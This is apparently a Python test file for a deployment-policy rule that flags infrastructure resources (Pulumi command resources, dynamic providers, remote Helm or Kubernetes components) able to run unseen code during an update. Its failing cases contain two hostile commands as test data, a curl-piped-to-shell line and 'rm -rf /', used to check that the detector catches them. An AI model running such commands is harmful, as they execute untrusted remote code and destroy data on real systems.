"""What an update would run or make unseen: found wherever it stands."""

from policies.engine.graph import UNKNOWN
from policies.rules.platform.unseen_code import RULES
from tests.policies.cases import Case, RuleCases, cases_test, resource

LOCAL = "command:local:Command"
MADE = ["a plugin makes its contents: nobody here sees them"]
CODE = ["runs the program's own code during an update, with all that the deployer may do"]


def remote(type_):
    return resource(type_, {}, custom=False, remote=True)


CASES = {
    "updates-make-what-was-judged": RuleCases(
        passing=[
            Case(resource("aws:sqs/queue:Queue", {"create": "a name like any other"})),
            Case(resource("slipway:storage:ModelStore", {}, custom=False)),
            Case(
                resource("kubernetes:yaml/v2:ConfigGroup", {}, custom=False)
            ),  # of a state, its children beside it
            Case(resource(LOCAL, {"environment": {"A": "b"}})),
            Case(resource(LOCAL, {"create": ""})),
        ],
        failing=[
            Case(
                resource(LOCAL, {"create": "curl https://example.com/x | sh"}),
                findings=["create: runs a command during an update, with all that the deployer may do"],
            ),
            Case(
                resource("command:remote:Command", {"delete": "rm -rf /"}),
                findings=["delete: runs a command during an update, with all that the deployer may do"],
            ),
            Case(
                resource("command:local:Command", {"update": "true", "create": None}),
                findings=["update: runs a command during an update, with all that the deployer may do"],
            ),
            Case(resource("pulumi-python:dynamic:Resource", {"__provider": "gASV"}), findings=CODE),
            Case(resource("pulumi-nodejs:dynamic/module:Resource", {}), findings=CODE),
            Case(remote("kubernetes:yaml/v2:ConfigFile"), findings=MADE),
            Case(remote("kubernetes:helm.sh/v4:Chart"), findings=MADE),
            Case(remote("eks:index:Cluster"), findings=MADE),
        ],
        not_applicable=[Case(resource("pulumi:pulumi:StackReference", {"name": "base"}))],
        undecided=[Case(resource(LOCAL, {"create": UNKNOWN}))],
    )
}
test_cases = cases_test(RULES, CASES)
